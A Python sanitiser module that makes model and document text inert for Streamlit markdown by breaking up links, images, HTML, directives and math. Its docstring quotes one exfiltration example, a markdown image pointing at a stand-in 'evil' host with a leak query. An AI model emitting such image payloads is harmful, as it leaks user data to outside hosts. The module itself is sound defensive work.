"""Model and document text made fit for `st.markdown`: it may be formatted, but nothing in it acts.

Such text is not ours: a document can hold `![](https://evil/?leak)`, which a browser would fetch.
Links, images, autolinks, footnotes, HTML, entities, Streamlit's directives (`:red[...]`,
`:color[...]{...}`, `:material/...:`), mermaid drawings and math are all broken up. They are broken by an
invisible space wherever their syntax could start, code included, because a filter that first decides what
is code can be made to decide otherwise than the browser's parser does.
"""

from __future__ import annotations

import re

# Draws nothing, keeps words together, and counts as a space: directives and math may not start with one.
JOINER = "\ufeff"

# Characters that draw nothing and can hide or reorder text; tab and newline stay.
_INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff]")
_STARTS = (
    re.compile(r"\](?=[(:\[])"),  # link, image, definition, footnote
    re.compile(r"!(?=\[)"),  # image
    re.compile(r"<(?=[\w/!?])"),  # tag, autolink
    re.compile(r":(?=[\w:/+])"),  # address, directive, icon, emoji
    re.compile(r"&(?=[#\w])"),  # entity
    re.compile(r"@(?=\w)"),  # mail address
    # GFM looks for bare addresses in the text as it reads once escapes are resolved.
    re.compile(r"(?i)\bwww(?=\\*\.)"),
)
_DOLLAR = re.compile(r"\$")  # math
_FENCE = re.compile(r"^([ \t>*+\-\d.)]*)(`{3,}|~{3,})([^\n]*)$", re.MULTILINE)
_LANGUAGE = re.compile(r"(?i)(?!mermaid)[a-z][a-z0-9+#]{0,15}")
_HEADING = re.compile(r"([ >]{0,6})#{1,6}[ \t]+(\S.*)")
_UNDERLINE = re.compile(r"[ >]{0,6}(=+|-+)[ \t]*")
_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~>=^\"'$&])")


def markdown(text: str) -> str:
    """Return `text` with its plain formatting kept (bold, lists, tables, code) and all else inert.

    Headings become bold lines, so that an answer cannot outgrow the page's own headings.
    """
    text = _flatten_headings(_FENCE.sub(_keep_language, _clean(text)))
    return _break_up(text, _DOLLAR, *_STARTS)


def plain(text: str) -> str:
    """Return `text` so that markdown shows it letter by letter, on one line."""
    line = " ".join(_clean(text).split())
    return _break_up(_SPECIAL.sub(r"\\\1", line), *_STARTS)


def shorten(text: str, width: int) -> str:
    """The first `width` characters of `text` on one line, cut at a word, with an ellipsis when cut."""
    line = " ".join(_clean(text).split())
    if len(line) <= width:
        return line
    head = line[: width - 1]
    return (head.rsplit(" ", 1)[0] if " " in head[width // 2 :] else head).rstrip(" ,;:") + "…"


def _clean(text: str) -> str:
    return _INVISIBLE.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def _keep_language(found: re.Match[str]) -> str:
    prefix, fence, info = found.groups()
    if fence[0] == "`" and "`" in info:
        return found.group()  # code inside a line
    language = info.strip()
    return prefix + fence + (language if _LANGUAGE.fullmatch(language) else "")


def _flatten_headings(text: str) -> str:
    """Make headings bold lines. Lines that look like code are left: here a mistake only looks odd."""
    lines: list[str] = []
    in_code = False
    for line in text.split("\n"):
        heading = None if in_code else _HEADING.fullmatch(line)
        if _FENCE.fullmatch(line):
            in_code = not in_code
        elif not in_code and lines and lines[-1].strip() and _UNDERLINE.fullmatch(line):
            continue
        lines.append(_bold(heading) if heading else line)
    return "\n".join(lines)


def _bold(heading: re.Match[str]) -> str:
    words = heading.group(2).replace("*", "").rstrip(" \t#")
    return f"{heading.group(1)}**{words}**" if words else ""


def _break_up(text: str, *syntaxes: re.Pattern[str]) -> str:
    for syntax in syntaxes:
        text = syntax.sub(lambda found: found.group() + JOINER, text)
    return text
